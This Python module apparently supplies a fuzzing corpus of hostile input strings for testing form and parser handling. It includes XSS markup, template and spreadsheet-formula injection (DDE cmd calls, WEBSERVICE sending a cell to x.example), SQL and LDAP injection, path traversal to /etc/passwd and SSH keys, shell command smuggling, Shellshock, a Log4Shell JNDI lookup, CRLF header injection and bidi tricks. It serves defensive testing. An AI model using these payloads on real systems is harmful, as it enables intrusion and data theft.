"""More than three hundred texts that want to be something else than text: markup, formulas, headers, orders.

Whatever tries to become an element is called `x-hostile`, and whatever tries to become an attribute `onhostile`, so
that one look at a parsed page tells whether it did.
"""

from __future__ import annotations

import unicodedata
from dataclasses import dataclass

# What forms refuse beside control characters: half of a pair, no character at all, and what stands for unreadable bytes.
_NO_TEXT = {
    0xFFFD,
    *range(0xFDD0, 0xFDF0),
    *(plane + low for plane in range(0, 0x110000, 0x10000) for low in (0xFFFE, 0xFFFF)),
}


@dataclass(frozen=True, slots=True)
class Hostile:
    """One text and the family that it is of."""

    family: str
    text: str

    def __str__(self) -> str:
        return f"{self.family} {self.text[:30]!a}"

    @property
    def kept(self) -> str:
        """The text as it is kept: composed, with plain line ends, without blanks around it."""
        composed = unicodedata.normalize("NFC", self.text.replace("\r\n", "\n").replace("\r", "\n"))
        return composed.strip(" \t\n\u3000\u00a0\u2028\u2029")

    def refused(self, *, lines: bool) -> bool:
        """Whether a field of one line, or of several, refuses it for its characters."""
        allowed = "\n\t\r" if lines else ""
        inside = self.kept if not lines else self.text
        return any(
            (unicodedata.category(c) == "Cc" and c not in allowed)
            or unicodedata.category(c) == "Cs"
            or ord(c) in _NO_TEXT
            for c in inside
        )


_MARKUP = """<x-hostile>
</p><x-hostile>
<script>hostile()</script>
</script><script>hostile()</script>
</textarea><x-hostile>
</title><x-hostile>
</style><x-hostile>
"><x-hostile onhostile="1">
'><x-hostile onhostile='1'>
" onhostile="1
' onhostile='1
` onhostile=`1
x onhostile=1
<img src=x onerror=hostile()>
<svg onload=hostile()><x-hostile/></svg>
<svg><script>hostile()</script></svg>
<math><mtext><x-hostile></mtext></math>
<iframe srcdoc="<x-hostile>"></iframe>
<a href="javascript:hostile()">x</a>
<form action=//x.example><button>x</button></form>
<base href=//x.example/>
<meta http-equiv=refresh content="0;url=//x.example">
<link rel=stylesheet href=//x.example>
<object data=//x.example></object>
<!-- <x-hostile> -->
--><x-hostile><!--
<![CDATA[<x-hostile>]]>
]]><x-hostile>
<?xml version="1.0"?><x-hostile/>
<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;
&lt;x-hostile&gt;
&amp;lt;x-hostile&amp;gt;
&#60;x-hostile&#62;
&#x3c;x-hostile&#x3e;
&lt&#59;
&nbsp;&copy;&;&#;&#xzz;
<<x-hostile>>
<x-hostile
< x-hostile>
<X-HOSTILE>
<x-hostile/onhostile=1>
＜x-hostile＞
‹x-hostile›
%3Cx-hostile%3E
\\u003cx-hostile\\u003e
\\x3cx-hostile\\x3e
<noscript><p title="</noscript><x-hostile>">
<template><x-hostile></template>
<select><option>x</option><x-hostile></select>
<table><tr><td></table><x-hostile>
<details open ontoggle=hostile()>
<style>*{display:none}</style>
<div style="position:fixed;inset:0">x</div>
<input name=role value=admin>
<button formaction=//x.example>x</button>
<video><source onerror=hostile()></video>
<div data-hx-get="/account" data-hx-trigger="load">x</div>
<div hx-on:load="hostile()">x</div>
<use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'></svg>#x"/>
<plaintext>
<r>x</r>
<r><t>x</t></r>
<r></r></is></c><c r="Z9"><f>1+1</f></c><c><is><r></r>
</t></is></c><c r="Z9"><f>1+1</f></c>
_x0041_ _x005F_x0041_ _x000D_"""
_TEMPLATES = """{{ 7 * 7 }}
{{ config }}
{{ ''.__class__.__mro__ }}
{% for x in range(9) %}x{% endfor %}
{% include "/etc/passwd" %}
{# gone #}
{{ request.scope }}
{{
%}
${7*7}
#{7*7}
<%= 7*7 %>
@{7*7}
[[7*7]]
%(name)s
%(n)d %s %n %%
{name} {0} {}
{0.__class__}
$x$ and $ sum_(k=0)^n $
#read("/etc/passwd")
#import "@preview/x:1.0.0"
#set page(width: 1pt)
#panic("x")
#while true {}
*strong* _weak_ `code`
= Title
- item
@label <label>
\\u{41} \\ \\\\
// not a comment
/* nor this */ x
\\input{/etc/passwd}
\\begin{verbatim}
$$E=mc^2$$
[x](javascript:hostile())
![x](//x.example/x.png)
# Title
> quoted
***
~~gone~~"""
_FORMULAS = """=1+1
+1+1
-1+1
@SUM(A1:A9)
=HYPERLINK("http://x.example","x")
=WEBSERVICE("http://x.example/"&A1)
=IMPORTXML("http://x.example","//x")
=cmd|' /C calc'!A0
+cmd|' /C calc'!A0
-2+3+cmd|' /C calc'!A0
@cmd|' /C calc'!A0
=DDE("cmd";"/C calc";"x")
 =1+1
  @SUM(A1)
\t=1+1
＝1+1
＋1+1
－1+1
＠SUM(A1)
\u3000=1+1
\u00a0=1+1
\u200b=1+1
\ufeff=1+1
'=1+1
"=1+1"
"",=1+1
x,=1+1
x;=1+1
x\t=1+1
0x1F
1E5
007
1/2
2026-02-30
12345678901234567890
TRUE
#N/A
#REF!
{=SUM(A1)}
=[x.xlsx]S!A1"""
_ORDERS = """'; drop table person; --
" or "1"="1
' or 1=1 --
') or ('1'='1
1; select pg_sleep(9)
$1, $2
$$x$$
E'\\\\x'
'||(select current_user)||'
/*'*/or/*'*/1
\\'; --
%_\\%
*)(uid=*))(|(uid=*
x' and extractvalue(1,'x') --
{"$ne": null}
[1, 2, {"a": null}]
null
undefined
NaN
../../etc/passwd
..\\..\\windows\\win.ini
/etc/passwd
....//....//etc/passwd
%2e%2e%2fetc%2fpasswd
..%c0%af..%c0%afetc
C:\\CON
file:///etc/passwd
~root/.ssh/id_rsa
$(id)
`id`
; id
| id
&& id
x\\
"x
x"
'x
\\"x\\"
--version
-rf
() { :;}; id
${jndi:ldap://x.example/x}
%d%s%n%x
\\r\\nSet-Cookie: x=1
%0d%0aSet-Cookie:%20x=1
Bcc: x@example.org
=?utf-8?q?=0D=0ABcc:_x@example.org?=
x@example.org, y@example.org
"x" <x@example.org>
<x@example.org>
BEGIN:VCALENDAR
END:VEVENT
ATTENDEE;CN=x:mailto:x@example.org
x;y,z:\\n\\;\\,
DTSTART:20260101T000000Z
From x@example.org
.
..
javascript:hostile()
JaVaScRiPt:hostile()
java&#115;cript:hostile()
javascript&colon;hostile()
vbscript:hostile()
data:text/html,<x-hostile>
data:text/html;base64,PHgtaG9zdGlsZT4=
//x.example
\\\\x.example\\share
/\\x.example
https:x.example
http://x.example@localhost/
http://127.0.0.1:5432/
http://[::1]/
http://x.example/"onhostile="1
ftp://x.example/x
mailto:x@example.org?bcc=y@example.org
tel:110"""
# Written right to left, and ordered to be.
_BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
_UNSEEN = "\u00ad\u034f\u180e\u200b\u200c\u200d\u2060\u2061\u2063\u3164\ufe0f\ufeff\uffa0\U000e0041\U000e0100"
_LINES = (
    "one\ntwo",
    "one\r\ntwo",
    "one\rtwo",
    "one\n\n\ntwo",
    "one\n\tBcc: x@example.org",
    "one\r\nBcc: x@example.org\r\n\r\nbody",
    "one\n.\ntwo",
    "one\nBEGIN:VEVENT\ntwo",
    "one\u2028two",
    "one\u2029two",
    "one\u2028<x-hostile>",
    "one\ttwo",
)
_WIDE = (
    "𠮷野家", "𪚥𪚥", "𰻝𰻝面", "😀", "👩‍👩‍👧‍👦", "👩🏽‍🚀", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "🇨🇳🇺🇳", "𝔛𝕙𝓸𝓼𝓽", "𝟎𝟙𝟚", "🂡🀄", "𓀀𓂀", "🜁🜂", "𐍈𐌰", "𝄞𝄢",
    "🔣\u200b🔤", "❤️‍🔥", "1️⃣", "👨‍💻 code", "🫥🫠", "𞤀𞤣", "𐎠𐎡", "🙈🙉🙊", "𒀀𒁀", "🧑‍🌾 农民",
)  # fmt: skip
_COMBINED = (
    "e\u0301te\u0301",
    "Å A\u030a \u212b",
    "ﬁ ﬂ ﬀ",
    "\u1112\u1161\u11ab\u1100\u1173\u11af",
    "ก็ด้วยเช่นกัน",
    "مَرْحَبًا",
    "שָׁלוֹם",
    "हिन्दी",
    "x" + "\u0335\u0336\u0337" * 20,
    "\u0301x",
    "a\u20dd\u20e3",
    "İıŞşßẞ",
    "Ⅷ ㍿ ㎡ ½",
    "ｆｕｌｌ ｗｉｄｔｈ",
    "ｶﾞｷﾞ",
    "ꙮ",
)
_LONG = (
    "x" * 10_000,
    "创" * 10_000,
    "𠮷" * 10_000,
    "<x-hostile>" * 900,
    "&amp;" * 2_000,
    "e\u0301" * 5_000,
    "x " * 5_000,
    "\u202e" * 10_000,
    "=" * 10_000,
    "one\n" * 2_500,
)
_NO_CHARACTERS = ("x\ufffey", "x\uffffy", "x\ufdd0y", "x\U0001fffey", "x\ufffdy")
_CONTROLS = tuple(chr(n) for n in (*range(0x20), *range(0x7F, 0xA0)) if chr(n) not in "\n\r\t")


def _all() -> list[Hostile]:
    found = [
        Hostile(family, line)
        for family, block in (
            ("markup", _MARKUP),
            ("template", _TEMPLATES),
            ("formula", _FORMULAS),
            ("order", _ORDERS),
        )
        for line in block.split("\n")
    ]
    for c in _BIDI:
        found += [Hostile("bidi", f"{c}exe.fdp"), Hostile("bidi", f"路演{c}shadow")]
    for c in _UNSEEN:
        found += [Hostile("unseen", f"pass{c}port"), Hostile("unseen", f"首{c}投")]
    for family, texts in (
        ("lines", _LINES),
        ("wide", _WIDE),
        ("combined", _COMBINED),
        ("long", _LONG),
        ("none", _NO_CHARACTERS),
    ):
        found += [Hostile(family, text) for text in texts]
    for place, c in enumerate(_CONTROLS):
        found.append(Hostile("control", (f"one{c}two", f"{c}two", f"one{c}")[place % 3]))
    found += [Hostile("surrogate", text) for text in ("x\ud800y", "x\udfffy", "\ude00\ud83d", "x\udc80")]
    return found


HOSTILE = _all()
